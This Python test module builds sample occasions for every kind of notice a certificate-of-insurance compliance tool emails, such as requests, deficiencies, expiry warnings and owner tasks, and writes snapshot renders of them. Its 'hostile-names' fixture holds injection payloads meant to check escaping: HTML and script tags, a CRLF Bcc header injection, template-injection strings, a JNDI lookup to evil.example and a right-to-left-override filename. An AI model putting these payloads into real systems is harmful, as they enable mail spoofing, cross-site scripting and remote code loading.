"""One occasion for every kind of mail, with what is known on it: what the renders, and the tests of what mails say, are made from.

`python -m tests.notices.occasions` writes the renders anew; look at the difference before keeping it.
"""

from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

from coverwatch.domain.assessment import Assessment, CoverEnd, VendorStatus
from coverwatch.domain.certificate import Policy
from coverwatch.domain.facts import CertificateStatus, FiledCertificate, Statement, VendorFacts
from coverwatch.domain.finding import Finding, Outcome, Severity
from coverwatch.domain.line import Line
from coverwatch.domain.notice import Answered, LetterBrought, Notice, Series
from coverwatch.domain.policy_news import PolicyNews, PolicyNewsKind
from coverwatch.domain.vendor import ClosedBecause, Contact, ContactRole
from coverwatch.notices import (
    INSIDE,
    Links,
    Mail,
    Organisation,
    acknowledgement,
    closed_address_task,
    compose,
    letter_task,
    statement_task,
)
from tests.builders import (
    a_cancellation,
    a_certificate,
    a_filed_certificate,
    a_policy,
    a_requirement_set,
    a_vendor,
    evidence,
    the_facts,
    the_policies,
)

RENDERS = Path(__file__).parent / "renders"
ORGANISATION = Organisation(name="Meridian Property Group LLC", colour="#1f4e79", contact="certificates@holder.example")
LINKS = Links(
    upload="https://coverage.holder.example/u/eyJ2IjoiazEifQ.4f7a",
    unsubscribe="https://coverage.holder.example/u/eyJ2IjoiazEifQ.4f7a/unsubscribe",
    reply_to="certificates+k1@in.holder.example",
)
D = date(2027, 1, 1)
"""The first day without cover."""
OUTSIDE = (ContactRole.VENDOR, ContactRole.PRODUCER)


def a_notice(
    series: Series | str, subject: str, step: int, day: date, roles: tuple[ContactRole, ...] = OUTSIDE, **overrides: Any
) -> Notice:
    """A notice of the default vendor."""
    values: dict[str, Any] = {"vendor_id": "keystone-elevator", **overrides}
    return Notice(series=Series(series), subject=subject, step=step, day=day, roles=roles, **values)


def an_assessment(
    on: date,
    *,
    status: VendorStatus = VendorStatus.COMPLIANT,
    findings: Sequence[Finding] = (),
    ends: Sequence[CoverEnd] = (),
    authorized: bool | None = None,
    **overrides: Any,
) -> Assessment:
    """The default vendor's assessment, as the rules would give it."""
    allowed = status in (VendorStatus.COMPLIANT, VendorStatus.COMPLIANT_WITH_WAIVER) if authorized is None else authorized
    values: dict[str, Any] = {
        "vendor_id": "keystone-elevator",
        "on": on,
        "requirement_set": "general-subcontractor",
        "requirement_set_version": 1,
        "findings": tuple(findings),
        "status": status,
        "authorized": allowed,
        "reasons": (),
        "valid_until": D - timedelta(days=1) if allowed else None,
        "changes_on": None,
        "cover_ends": tuple(ends),
        **overrides,
    }
    return Assessment(**values)


def a_gap(rule: str, line: Line | None, required: str, found: str, message: str, **overrides: Any) -> Finding:
    """A failed finding that blocks."""
    values: dict[str, Any] = {
        "version": 1,
        "outcome": Outcome.FAIL,
        "severity": Severity.BLOCK,
        "evidence": (evidence("field"),),
        **overrides,
    }
    return Finding(rule=rule, line=line, required=required, found=found, message=message, **values)


def an_end(day: date = D, *policies: Policy) -> tuple[CoverEnd, ...]:
    """The end of cover of the default policies, or of these."""
    chosen = policies or tuple(policy for policy in the_policies() if policy.line is not Line.UMBRELLA_LIABILITY)
    return tuple(CoverEnd(policy.line, day, (policy,)) for policy in chosen)


A_LIMIT = a_gap(
    "R21",
    Line.GENERAL_LIABILITY,
    "each occurrence $2,000,000",
    "$1,000,000",
    "General liability, each occurrence: $2,000,000 is required, the certificate shows $1,000,000.",
)
NO_ENDORSEMENT = a_gap(
    "R33",
    Line.GENERAL_LIABILITY,
    "additional insured for completed operations",
    "CG 20 10",
    "General liability: CG 20 37 (completed operations) is missing. Send a copy of the endorsement.",
    evidence=(evidence("description"), evidence("description", page=2)),
)
NO_POLICY = a_gap(
    "R12",
    Line.WORKERS_COMPENSATION,
    "Workers' compensation in force",
    "none",
    "Workers' compensation: no policy in force is shown. Send a certificate that shows it.",
    evidence=(),
)
THE_HOLDER = a_gap(
    "R06",
    None,
    "Meridian Property Group LLC, 100 Main St, Austin, TX 78701",
    "Meridian Group, Austin",
    "The certificate holder is Meridian Property Group LLC, 100 Main St, Austin, TX 78701; the certificate names Meridian Group, Austin.",
    severity=Severity.FIX,
)


@dataclass(frozen=True)
class Occasion:
    """What is to be told to whom, on a day, and everything known then."""

    name: str
    notices: tuple[Notice, ...]
    on: date
    assessment: Assessment
    facts: VendorFacts
    role: ContactRole = ContactRole.VENDOR
    organisation: Organisation = ORGANISATION
    links: Links = LINKS

    def mail(self) -> Mail:
        """The mail that is made of it."""
        to = next(contact for contact in self.facts.vendor.contacts if contact.role is self.role)
        links = replace(self.links, unsubscribe=None) if to.role in INSIDE else self.links
        return compose(self.notices, to, self.facts, self.assessment, a_requirement_set(), self.organisation, links, self.on)


def occasions() -> Iterator[Occasion]:
    """Every kind of mail, in the order of a vendor's year."""
    yield from _requests()
    yield from _answers()
    yield from _expiring()
    yield from _expired()
    yield from _cancellations()
    yield from _tasks()
    yield from _odd_ones()


def _requests() -> Iterator[Occasion]:
    none = the_facts(vendor=a_vendor(work_starts_on=date(2026, 3, 20)), certificates=())
    waiting = an_assessment(date(2026, 3, 2), status=VendorStatus.AWAITING_CERTIFICATE)
    asked = a_notice("first_request", "request-1", 0, date(2026, 3, 2))
    again = replace(asked, step=7, day=date(2026, 3, 9))
    yield Occasion("first-request", (asked,), date(2026, 3, 2), waiting, none)
    yield Occasion("first-request-reminder", (again,), date(2026, 3, 9), waiting, none)
    yield Occasion("first-request-to-the-producer", (asked,), date(2026, 3, 2), waiting, none, role=ContactRole.PRODUCER)


def _answers() -> Iterator[Occasion]:
    day = date(2026, 1, 5)
    facts = the_facts()
    told = a_notice("deficiency", "c-1", 0, day)
    lacking = an_assessment(day, status=VendorStatus.NON_COMPLIANT, findings=(A_LIMIT, NO_ENDORSEMENT, NO_POLICY))
    correctable = an_assessment(day, findings=(THE_HOLDER,))
    inclusive = the_facts(a_filed_certificate(a_certificate(edition="2025/12")))
    low = an_assessment(day, status=VendorStatus.NON_COMPLIANT, findings=(A_LIMIT,))
    yield Occasion("deficiency", (told,), day, lacking, facts)
    yield Occasion("deficiency-of-a-2025-12-form", (told,), day, low, inclusive)
    yield Occasion("deficiency-that-blocks-nothing", (told,), day, correctable, facts)
    again = a_notice("deficiency", "c-1", 14, day + timedelta(days=14))
    yield Occasion("deficiency-reminder", (again,), again.day, replace(lacking, on=again.day), facts)
    unread = the_facts(_refused("The file is protected by a password, so nobody can open it."))
    no_answer = an_assessment(day, status=VendorStatus.AWAITING_CERTIFICATE)
    yield Occasion("unreadable", (a_notice("unreadable", "c-9", 0, day),), day, no_answer, unread)
    yield from _acknowledgements(day, lacking)
    yield Occasion("thanks", (a_notice("thanks", "c-1", 0, day),), day, an_assessment(day), facts)


def _acknowledgements(day: date, lacking: Assessment) -> Iterator[Occasion]:
    facts, nothing_open = the_facts(), an_assessment(day)
    known: dict[str, Any] = {"address": "office@keystone.example", "message_id": "<1@keystone.example>", "is_known": True}
    stranger: dict[str, Any] = {"address": "office@keystone.example", "message_id": None}
    documents, nothing = LetterBrought.DOCUMENTS, LetterBrought.NOTHING
    for name, answered, assessment in (
        ("", Answered(brought=documents, documents=2, **known), nothing_open),
        ("-to-a-stranger", Answered(brought=documents, documents=1, **stranger), nothing_open),
        ("-of-a-copy", Answered(brought=documents, documents=1, copies=("c-1",), **known), lacking),
        ("-of-a-copy-with-nothing-open", Answered(brought=documents, documents=1, copies=("c-1",), **known), nothing_open),
        ("-of-a-copy-to-a-stranger", Answered(brought=documents, documents=1, copies=("c-1",), **stranger), lacking),
        ("-without-a-document", Answered(brought=nothing, **known), nothing_open),
        ("-of-policy-news", Answered(brought=LetterBrought.POLICY_NEWS, **known), nothing_open),
    ):
        notice = acknowledgement("keystone-elevator", "<1@keystone.example>", answered, day)
        yield Occasion(f"acknowledgement{name}", (notice,), day, assessment, facts)


def _expiring() -> Iterator[Occasion]:
    for step, role in ((-30, ContactRole.VENDOR), (-7, ContactRole.OWNER), (-1, ContactRole.PRODUCER)):
        day = D + timedelta(days=step)
        notice = a_notice("expiring", D.isoformat(), step, day, (*OUTSIDE, ContactRole.OWNER))
        yield Occasion(f"expiring{step}-{role.value}", (notice,), day, an_assessment(day, ends=an_end()), the_facts(), role=role)
    left = an_assessment(date(2026, 12, 18), ends=an_end(D, a_policy(Line.WORKERS_COMPENSATION)))
    some = a_notice("expiring", D.isoformat(), -14, date(2026, 12, 18))
    yield Occasion("expiring-14-what-is-left", (some,), some.day, left, the_facts())


def _expired() -> Iterator[Occasion]:
    everyone = (*OUTSIDE, ContactRole.OWNER, ContactRole.MANAGER)
    only = (ContactRole.MANAGER,)
    told: tuple[tuple[int, ContactRole, tuple[ContactRole, ...]], ...] = (
        (1, ContactRole.VENDOR, everyone),
        (1, ContactRole.OWNER, everyone),
        (7, ContactRole.MANAGER, everyone),
        (14, ContactRole.MANAGER, only),
    )
    for step, role, roles in told:
        day = D + timedelta(days=step)
        ended = an_assessment(day, status=VendorStatus.EXPIRED, ends=an_end())
        notice = a_notice("expired", D.isoformat(), step, day, roles)
        yield Occasion(f"expired+{step}-{role.value}", (notice,), day, ended, the_facts(), role=role)


def _cancellations() -> Iterator[Occasion]:
    facts = the_facts(cancellations=(a_cancellation(),))
    ends = an_end(date(2026, 6, 1), a_policy())
    known = date(2026, 5, 20)
    notice = a_notice("cancellation", "2026-06-01", -30, known, (*OUTSIDE, ContactRole.OWNER))
    yield Occasion("cancellation", (notice,), known, an_assessment(known, ends=ends), facts)
    yield Occasion("cancellation-owner", (notice,), known, an_assessment(known, ends=ends), facts, role=ContactRole.OWNER)
    late = date(2026, 6, 4)
    gone = an_assessment(late, status=VendorStatus.EXPIRED, ends=ends)
    yield Occasion("cancellation-known-too-late", (replace(notice, step=-1, day=late),), late, gone, facts)


def _tasks() -> Iterator[Occasion]:
    day = date(2026, 1, 26)
    lacking = an_assessment(day, status=VendorStatus.NON_COMPLIANT, findings=(A_LIMIT, NO_ENDORSEMENT))
    owner = (ContactRole.OWNER,)
    task = a_notice("review_task", "deficiency.c-1", 21, day, owner)
    yield Occasion("task-deficiency", (task,), day, lacking, the_facts(), role=ContactRole.OWNER)
    closed = a_vendor(
        contacts=(
            Contact(ContactRole.VENDOR, "office@keystone.example", closed_because=ClosedBecause.HARD_BOUNCE),
            Contact(ContactRole.PRODUCER, "certs@agency.example", closed_because=ClosedBecause.UNSUBSCRIBED),
            Contact(ContactRole.OWNER, "projects@holder.example"),
        )
    )
    unreachable = a_notice("review_task", "unreachable.expiring.2027-01-01", 0, date(2026, 12, 2), owner)
    ending = an_assessment(unreachable.day, ends=an_end())
    yield Occasion("task-unreachable", (unreachable,), unreachable.day, ending, the_facts(vendor=closed), role=ContactRole.OWNER)
    for contact in closed.contacts[:2]:
        task = closed_address_task("keystone-elevator", contact.email, day)
        name = f"task-closed-{contact.role.value}"
        yield Occasion(name, (task,), day, an_assessment(day), the_facts(vendor=closed), role=ContactRole.OWNER)
    letter = letter_task("keystone-elevator", "no_attachment", day)
    yield Occasion("task-letter-no-attachment", (letter,), day, an_assessment(day), the_facts(), role=ContactRole.OWNER)
    yield from _policy_news(day)
    said = Statement(
        statement_id="s-1",
        line=Line.WORKERS_COMPENSATION,
        reason="We have no employees; the owners do the work.",
        recorded_at=datetime(2026, 1, 26, 15, 0, tzinfo=UTC),
        recorded_by="vendor's link",
    )
    task = statement_task("keystone-elevator", said, day)
    yield Occasion("task-cannot-provide", (task,), day, an_assessment(day), the_facts(statements=(said,)), role=ContactRole.OWNER)
    digest = a_notice("digest", D.isoformat(), -45, date(2026, 11, 17), owner)
    yield Occasion("digest", (digest,), digest.day, replace(ending, on=digest.day), the_facts(), role=ContactRole.OWNER)
    no_agent = the_facts(vendor=a_vendor(contacts=tuple(each for each in a_vendor().contacts if each.role is not ContactRole.PRODUCER)))
    yield Occasion("digest-producer-to-confirm", (digest,), digest.day, replace(ending, on=digest.day), no_agent, role=ContactRole.OWNER)


def _policy_news(day: date) -> Iterator[Occasion]:
    clear = PolicyNews(PolicyNewsKind.CANCELLATION, "GL-1001", date(2026, 4, 15))
    unclear = PolicyNews(PolicyNewsKind.NON_RENEWAL, None, None)
    moment = datetime(2026, 1, 26, 15, 0, tzinfo=UTC)
    told = (("", "GL-1001", clear, 0, day), ("-eve", "GL-1001", clear, 1, date(2026, 4, 14)), ("-unclear", "-", unclear, 0, day))
    for name, number, news, step, on in told:
        filed = FiledCertificate(certificate_id="d-1", status=CertificateStatus.IN_REVIEW, received_at=moment, news=news)
        task = a_notice("review_task", f"policy_news.{number}.2026-01-26", step, on, (ContactRole.OWNER,))
        facts = the_facts(a_filed_certificate(), filed)
        yield Occasion(f"task-policy-news{name}", (task,), on, an_assessment(on), facts, role=ContactRole.OWNER)


def _odd_ones() -> Iterator[Occasion]:
    """Several notices in one mail, and names that want to be more than names."""
    day = date(2026, 12, 18)
    both = (a_notice("expiring", D.isoformat(), -14, day), a_notice("deficiency", "c-1", 3, day))
    lacking = an_assessment(day, status=VendorStatus.NON_COMPLIANT, findings=(A_LIMIT,), ends=an_end(D, a_policy("automobile_liability")))
    yield Occasion("two-in-one", both, day, lacking, the_facts())
    hostile = a_vendor(
        legal_name='Evil <b onclick="x()">Bold</b> & Söhne =?utf-8?q?=0ABcc=3A all@victim.example?='
        "\r\nBcc: all@victim.example\u2028 www.evil.example",
        reference="{{ 7 * 7 }} ${jndi:ldap://evil.example/a} {organisation.__class__}",
    )
    policy = a_policy(number="<script>alert(1)</script>", insurer="https://evil.example/pay?now\u202egnp.exe")
    light = Organisation(name="Bright & Sons <Holdings>", colour="#f2c200")
    notice = a_notice("expiring", D.isoformat(), -14, day)
    odd = an_assessment(day, ends=an_end(D, policy))
    yield Occasion("hostile-names", (notice,), day, odd, the_facts(vendor=hostile), organisation=light)


def _refused(why: str) -> FiledCertificate:
    moment = datetime(2026, 1, 5, 15, 30, tzinfo=UTC)
    return FiledCertificate(certificate_id="c-9", status=CertificateStatus.UNREADABLE, received_at=moment, decided_at=moment, refusal=why)


def rendered(occasion: Occasion) -> dict[str, str]:
    """The render files of an occasion: name → content. The text file begins with the mail's own headers."""
    mail = occasion.mail()
    head = "\n".join([f"To: {mail.to}", f"Subject: {mail.subject}", *(f"{name}: {value}" for name, value in mail.headers)])
    return {f"{occasion.name}.txt": f"{head}\n\n{mail.text}\n", f"{occasion.name}.html": mail.html + "\n"}


def main() -> None:
    """Write every render anew."""
    RENDERS.mkdir(exist_ok=True)
    for stale in RENDERS.iterdir():
        stale.unlink()
    for occasion in occasions():
        for name, content in rendered(occasion).items():
            (RENDERS / name).write_text(content, "utf-8")


if __name__ == "__main__":
    main()
